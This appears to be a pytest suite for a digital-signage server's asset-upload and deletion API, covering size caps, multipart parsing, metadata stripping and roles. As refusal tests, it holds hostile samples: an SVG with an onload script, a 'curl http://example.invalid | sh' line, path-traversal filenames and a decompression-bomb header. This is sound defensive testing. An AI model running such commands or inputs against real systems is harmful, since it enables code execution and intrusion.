"""Uploads and asset deletion against a real uvicorn on 127.0.0.1.

The server runs in a thread of this process, so the process's memory is the API's.
"""

from __future__ import annotations

import dataclasses
import hashlib
import io
import os
import re
import socket
import time
from pathlib import Path
from typing import Iterator

import httpx
import pytest
from PIL import Image

from signage.api import create_app
from signage.api.routes import assets as assets_routes
from signage.errors import SignageError
from signage.content.models import Playlist
from signage.settings import Settings
from tests.conftest import add_image
from tests.test_api import clock, serve, settings, store  # noqa: F401  (fixtures)
from tests.test_assets import camera_exif, encoded, jpeg_markers, png_header_only

MB = 1024 * 1024


def build_app(settings: Settings, clock, store):
    return create_app(settings, clock, store)


@pytest.fixture
def client(settings, clock, store) -> Iterator[httpx.Client]:
    with serve(build_app(settings, clock, store)) as url:
        with httpx.Client(base_url=url, trust_env=False, timeout=30) as client:
            yield client


def bearer(store, role: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {store.access.create_token(f'ci-{role}', role)}"}


@pytest.fixture
def editor(store) -> dict[str, str]:
    return bearer(store, "editor")


def picture(size=(160, 80), fmt="PNG", colour=(200, 30, 30), **options) -> bytes:
    return encoded(Image.new("RGB", size, colour), fmt, **options)


def upload(client, headers, data: bytes, filename="gate.png", content_type="image/png"):
    return client.post("/api/assets", headers=headers,
                       files={"file": (filename, data, content_type)})


def files_under(root: Path) -> set[Path]:
    return {path for path in root.rglob("*") if path.is_file()}


def open_files_under(root: Path) -> list[str]:
    """Files this process still holds open below `root` (an unlinked spool shows here)."""
    found = []
    for fd in os.listdir("/proc/self/fd"):
        try:
            target = os.readlink(f"/proc/self/fd/{fd}")
        except OSError:
            continue
        if target.startswith(str(root)):
            found.append(target)
    return found


def memory_kib(field: str) -> int:
    status = Path("/proc/self/status").read_text()
    return int(re.search(rf"^{field}:\s+(\d+) kB", status, re.M).group(1))


def reset_peak_memory() -> str:
    """Reset the process's peak-RSS mark if Linux lets us; the field to read afterwards."""
    try:
        Path("/proc/self/clear_refs").write_text("5")
        return "VmHWM"
    except OSError:
        return "VmRSS"


# --- uploading ---------------------------------------------------------------------------


def test_an_editor_uploads_an_image_and_gets_its_id_and_size(client, store, editor):
    response = upload(client, editor, picture())

    assert response.status_code == 201
    body = response.json()
    stored = store.assets.path(body["id"]).read_bytes()
    assert body == {"id": "sha256:" + hashlib.sha256(stored).hexdigest(), "width": 160,
                    "height": 80, "media_type": "image/png", "bytes": len(stored)}
    listed = client.get("/api/assets", headers=editor).json()["assets"]
    assert [(a["id"], a["original_name"]) for a in listed] == [(body["id"], "gate.png")]
    entry = store.records.audit_log()[-1]
    assert (entry.actor, entry.role, entry.action, entry.target) == (
        "ci-editor", "editor", "asset.upload", body["id"])


def test_the_same_picture_twice_is_one_asset(client, store, editor):
    first = upload(client, editor, picture(), filename="a.png").json()
    second = upload(client, editor, picture(), filename="b.png").json()

    assert first == second
    assert len(files_under(store.assets.dir)) == 1


def test_a_large_photo_is_stored_scaled_to_what_the_panel_needs(client, store, editor, settings):
    assert settings.driver == "emulated://768x384"

    response = upload(client, editor, picture((4000, 3000), "JPEG"), "photo.jpg", "image/jpeg")

    assert response.status_code == 201
    body = response.json()
    assert (body["width"], body["height"], body["media_type"]) == (768, 576, "image/jpeg")
    assert Image.open(store.assets.path(body["id"])).size == (768, 576)


def test_an_upload_larger_than_the_in_memory_spool_is_stored(client, store, editor):
    noisy = Image.frombytes("RGB", (1000, 1000), os.urandom(1000 * 1000 * 3))
    data = encoded(noisy, "PNG")
    assert len(data) > assets_routes.SPOOL_IN_MEMORY  # so it went through a temporary file

    response = upload(client, editor, data, "noise.png")

    assert response.status_code == 201
    assert (response.json()["width"], response.json()["height"]) == (768, 768)
    assert Image.open(store.assets.path(response.json()["id"])).size == (768, 768)


def test_the_panel_size_comes_from_the_configured_driver(tmp_path, clock, store):
    small = Settings(data_dir=store.database.data_dir, runtime_dir=tmp_path / "run",
                     driver="tpm2:///dev/ttyACM0?size=64x32")
    with serve(build_app(small, clock, store)) as url:
        with httpx.Client(base_url=url, trust_env=False, timeout=30) as client:
            response = upload(client, bearer(store, "approver"), picture((4000, 3000)))

    assert response.status_code == 201
    assert (response.json()["width"], response.json()["height"]) == (64, 48)


def test_camera_metadata_and_gps_are_not_stored(client, store, editor):
    photo = picture((1200, 900), "JPEG", exif=camera_exif().tobytes())
    assert b"Canon" in photo and Image.open(io.BytesIO(photo)).getexif().get_ifd(0x8825)

    response = upload(client, editor, photo, "IMG_0001.jpg", "image/jpeg")

    assert response.status_code == 201
    stored = store.assets.path(response.json()["id"]).read_bytes()
    assert b"Canon" not in stored and b"Exif" not in stored
    assert 0xE1 not in jpeg_markers(stored)  # no APP1 segment (EXIF, XMP)
    assert not Image.open(io.BytesIO(stored)).getexif()


@pytest.mark.parametrize("data, reason", [
    (b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "SVG"),
    (b"#!/bin/sh\ncurl http://example.invalid | sh\n", "a script"),
], ids=["svg", "shell-script"])
def test_other_files_named_png_are_refused(client, store, editor, data, reason):
    response = upload(client, editor, data, filename="innocent.png", content_type="image/png")

    assert response.status_code == 422
    problem = response.json()["detail"][0]
    assert problem["path"] == "file" and reason in problem["reason"]
    assert store.assets.all() == [] and files_under(store.assets.dir) == set()


def test_a_path_as_file_name_stores_nothing_outside_the_assets_area(client, store, editor,
                                                                    tmp_path):
    before = files_under(tmp_path)

    response = upload(client, editor, picture(), filename="../../etc/passwd")

    assert response.status_code == 201
    new = files_under(tmp_path) - before
    digest = response.json()["id"].removeprefix("sha256:")
    assert new == {store.assets.dir / digest[:2] / digest}
    assert not list(tmp_path.parent.rglob("passwd"))
    assert store.assets.all()[0].original_name == "passwd"  # a label, nothing more


def test_a_file_name_that_looks_like_a_secret_is_only_a_label(client, store, editor):
    response = upload(client, editor, picture(), filename="password sgn_x.png")

    assert response.status_code == 201
    assert store.assets.all()[0].original_name == "password sgn_x.png"
    assert "password" not in str(store.records.audit_log()[-1].as_dict())


def test_a_decompression_bomb_header_is_refused_fast_and_in_little_memory(client, store, editor):
    upload(client, editor, picture())  # warm up: imports and first-use allocations
    bomb = png_header_only(100_000, 100_000)  # 10 gigapixels: 30 GB if decoded
    field = reset_peak_memory()
    before = memory_kib("VmRSS")
    started = time.monotonic()

    response = upload(client, editor, bomb, filename="bomb.png")

    elapsed = time.monotonic() - started
    grown_mib = (memory_kib(field) - before) / 1024
    assert response.status_code == 422
    assert "too many pixels to decode safely" in response.json()["detail"][0]["reason"]
    assert elapsed < 2.0, f"took {elapsed:.2f} s"
    # Decoding would need 30 GB; refusing from the header needs next to nothing.
    assert grown_mib < 16, f"{field} grew by {grown_mib:.0f} MiB"
    assert len(store.assets.all()) == 1


def test_a_header_claiming_too_many_pixels_is_refused_before_decoding(client, store, editor):
    response = upload(client, editor, png_header_only(8000, 6000))

    assert response.status_code == 422
    assert "8000x6000 pixels" in response.json()["detail"][0]["reason"]


# --- the size cap, while streaming --------------------------------------------------------


def multipart_stream(total: int, boundary: str, chunk: int = 64 * 1024) -> Iterator[bytes]:
    """A multipart body with one `file` part of `total` bytes, produced piece by piece."""
    yield (f"--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; "
           f"filename=\"huge.png\"\r\nContent-Type: image/png\r\n\r\n").encode()
    yield b"\x89PNG\r\n\x1a\n"
    sent = 8
    block = b"\0" * chunk
    while sent < total:
        piece = block[:min(chunk, total - sent)]
        sent += len(piece)
        yield piece
    yield f"\r\n--{boundary}--\r\n".encode()


def test_a_30_mb_chunked_upload_is_refused_and_leaves_nothing_on_disk(client, store, editor,
                                                                     settings, tmp_path):
    boundary = "signage-test-boundary"
    before = files_under(tmp_path)

    response = client.post(
        "/api/assets", content=multipart_stream(30 * MB, boundary),
        headers={**editor, "Content-Type": f"multipart/form-data; boundary={boundary}"},
    )

    assert "content-length" not in response.request.headers  # really chunked
    assert response.request.headers["transfer-encoding"] == "chunked"
    assert response.status_code == 413
    assert "25 MB" in response.json()["detail"]
    assert files_under(tmp_path) == before
    # The spool is an unnamed file in data/incoming: none of it may still be held open.
    assert open_files_under(settings.data_dir / "incoming") == []
    assert store.assets.all() == []


def declared_upload_answer(client, editor, declared: int, filename: str, first: bytes) -> bytes:
    """Send the headers of an upload declaring `declared` bytes, the file part's headers
    and its `first` bytes, then wait for the answer (the rest is never sent)."""
    host, port = client.base_url.host, client.base_url.port
    head = (f"POST /api/assets HTTP/1.1\r\nHost: {host}\r\n"
            f"Authorization: {editor['Authorization']}\r\n"
            "Content-Type: multipart/form-data; boundary=b0undary\r\n"
            f"Content-Length: {declared}\r\n\r\n"
            "--b0undary\r\nContent-Disposition: form-data; name=\"file\"; "
            f"filename=\"{filename}\"\r\n\r\n").encode() + first
    with socket.create_connection((host, port), timeout=10) as conn:
        conn.sendall(head)
        return whole_answer(conn)


def whole_answer(conn: socket.socket) -> bytes:
    """The answer's head and its Content-Length of body: on a busy machine the server's
    two writes may arrive as two segments, and one recv() would see only the head."""
    answer = b""
    while True:
        chunk = conn.recv(4096)
        answer += chunk
        head, _, body = answer.partition(b"\r\n\r\n")
        found = re.search(rb"(?im)^content-length: *(\d+)", head)
        if not chunk or (found and len(body) >= int(found.group(1))):
            return answer


def test_a_declared_length_over_the_cap_is_refused_at_the_first_bytes(client, store, editor):
    # The cap depends on the kind (image or film), which the file's first bytes tell.
    answer = declared_upload_answer(client, editor, 30 * MB, "big.png", b"\x89PNG\r\n\x1a\n" * 4)
    assert answer.startswith(b"HTTP/1.1 413 ") and b"SIGNAGE_MAX_UPLOAD_MB" in answer
    assert store.assets.all() == []


def test_a_declared_length_over_every_cap_is_refused_before_any_body_is_sent(client, store,
                                                                              editor):
    host, port = client.base_url.host, client.base_url.port
    head = (f"POST /api/assets HTTP/1.1\r\nHost: {host}\r\n"
            f"Authorization: {editor['Authorization']}\r\n"
            "Content-Type: multipart/form-data; boundary=b0undary\r\n"
            f"Content-Length: {600 * MB}\r\n\r\n")
    with socket.create_connection((host, port), timeout=10) as conn:
        conn.sendall(head.encode())  # and not one byte of the body
        answer = conn.recv(4096)

    assert answer.startswith(b"HTTP/1.1 413 ")
    assert store.assets.all() == []


def test_the_cap_follows_the_setting(tmp_path, clock, store):
    settings = Settings(data_dir=store.database.data_dir, runtime_dir=tmp_path / "run")
    settings = dataclasses.replace(settings, max_upload_mb=1)
    noisy = Image.frombytes("RGB", (700, 700), os.urandom(700 * 700 * 3))  # ~1.4 MB as PNG
    with serve(build_app(settings, clock, store)) as url:
        with httpx.Client(base_url=url, trust_env=False, timeout=30) as client:
            response = upload(client, bearer(store, "editor"), encoded(noisy, "PNG"))

    assert response.status_code == 413 and "1 MB" in response.json()["detail"]


def test_the_cap_setting_is_checked_when_the_settings_are_read():
    assert Settings.from_env({}).max_upload_mb == 25
    assert Settings.from_env({"SIGNAGE_MAX_UPLOAD_MB": "40"}).max_upload_mb == 40
    for bad in ("0", "-3", "lots", "100000", "nan"):
        with pytest.raises(SignageError, match="SIGNAGE_MAX_UPLOAD_MB=.*megabytes from 1 to 200"):
            Settings.from_env({"SIGNAGE_MAX_UPLOAD_MB": bad})


# --- the form itself ---------------------------------------------------------------------


def test_a_body_that_is_not_a_form_is_refused(client, editor):
    response = client.post("/api/assets", headers={**editor, "Content-Type": "image/png"},
                           content=picture())

    assert response.status_code == 415
    assert "curl -F file=@picture.png" in response.json()["detail"]


def test_other_form_fields_are_refused(client, store, editor):
    response = client.post("/api/assets", headers=editor, data={"path": "/etc/cron.d/x"},
                           files={"file": ("a.png", picture(), "image/png")})

    assert response.status_code == 422
    assert "'path'" in response.json()["detail"][0]["reason"]
    assert store.assets.all() == []


def test_two_files_are_refused(client, store, editor):
    response = client.post("/api/assets", headers=editor, files=[
        ("file", ("a.png", picture(), "image/png")),
        ("file", ("b.png", picture(colour=(0, 0, 9)), "image/png"))])

    assert response.status_code == 422
    assert "more than one" in response.json()["detail"][0]["reason"]
    assert store.assets.all() == []


def test_a_form_without_the_file_is_refused(client, editor):
    boundary = "xyz"
    response = client.post(
        "/api/assets", content=f"--{boundary}--\r\n".encode(),
        headers={**editor, "Content-Type": f"multipart/form-data; boundary={boundary}"})

    assert response.status_code == 422
    assert "no 'file' field" in response.json()["detail"][0]["reason"]


@pytest.mark.parametrize("boundary, body", [
    ("xyz", b"--xyz\r\nno colon in this header\r\n\r\ndata\r\n--xyz--\r\n"),
    ("x" * 300, b"--" + b"x" * 300 + b"--\r\n"),
], ids=["bad-header", "boundary-too-long"])
def test_broken_multipart_framing_is_a_bad_request(client, store, editor, boundary, body):
    response = client.post(
        "/api/assets", content=body,
        headers={**editor, "Content-Type": f"multipart/form-data; boundary={boundary}"})

    assert response.status_code == 400
    assert "malformed" in response.json()["detail"]
    assert store.assets.all() == []


def test_a_body_cut_short_is_refused(client, store, editor):
    boundary = "xyz"
    body = (f"--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.png\""
            f"\r\n\r\n").encode() + picture()
    response = client.post(
        "/api/assets", content=body,
        headers={**editor, "Content-Type": f"multipart/form-data; boundary={boundary}"})

    assert response.status_code == 422
    assert "ended early" in response.json()["detail"][0]["reason"]
    assert store.assets.all() == []


# --- who may do what -----------------------------------------------------------------------


def test_roles(client, store):
    ref = add_image(store, picture(), "old.png")
    for role, may_list, may_change in [("editor", 200, 201), ("approver", 200, 201),
                                       ("technician", 200, 403), ("admin", 403, 403)]:
        headers = bearer(store, role)
        assert client.get("/api/assets", headers=headers).status_code == may_list, role
        assert upload(client, headers, picture(colour=(1, 2, 3))).status_code == may_change, role
        deleted = client.delete(f"/api/assets/{ref}", headers=headers).status_code
        assert deleted == (403 if may_change == 403 else 204), role
        ref = add_image(store, picture(), "old.png")
    assert client.get("/api/assets").status_code == 401
    assert upload(client, {}, picture()).status_code == 401
    assert client.delete(f"/api/assets/{ref}").status_code == 401


# --- deleting ------------------------------------------------------------------------------


def image_playlist(name: str, ref: str) -> Playlist:
    return Playlist.model_validate(
        {"name": name, "items": [{"kind": "image", "asset": ref, "duration": "8s"}]})


def message_playlist(name: str) -> Playlist:
    return Playlist.model_validate({"name": name, "items": [
        {"kind": "message", "text": {"vi": "Xin chào", "en": "Hello", "zh": "你好"}}]})


def test_an_asset_the_live_playlist_uses_cannot_be_deleted(client, store, editor):
    ref = upload(client, editor, picture()).json()["id"]
    store.content.publish_playlist(image_playlist("gate", ref), "tester")
    store.content.publish_playlist(image_playlist("night", ref), "tester", activate=False)

    response = client.delete(f"/api/assets/{ref}", headers=editor)

    assert response.status_code == 409
    assert response.json()["playlists"] == ["gate", "night"]
    assert "gate" in response.json()["detail"]
    assert store.assets.path(ref).is_file() and store.assets.has(ref)


def test_an_unused_asset_is_deleted_with_its_file(client, store, editor):
    ref = upload(client, editor, picture()).json()["id"]
    path = store.assets.path(ref)

    response = client.delete(f"/api/assets/{ref}", headers=editor)

    assert response.status_code == 204
    assert not path.exists() and not store.assets.has(ref)
    assert [(e.action, e.target) for e in store.records.audit_log()][-1] == ("asset.delete", ref)
    assert client.get("/api/assets", headers=editor).json()["assets"] == []
    assert client.delete(f"/api/assets/{ref}", headers=editor).status_code == 404


def test_an_asset_only_superseded_revisions_used_can_be_deleted(client, store, editor):
    ref = upload(client, editor, picture()).json()["id"]
    store.content.publish_playlist(image_playlist("gate", ref), "tester")
    store.content.publish_playlist(message_playlist("gate"), "tester")  # the picture is gone from it

    response = client.delete(f"/api/assets/{ref}", headers=editor)

    assert response.status_code == 204
    assert not store.assets.path(ref).exists()
    assert store.content.live_content().playlist.items[0].kind == "message"


@pytest.mark.parametrize("asset_id", ["sha256:" + "0" * 64, "0" * 64, "not-an-id"])
def test_deleting_an_unknown_asset_is_404(client, editor, asset_id):
    assert client.delete(f"/api/assets/{asset_id}", headers=editor).status_code == 404
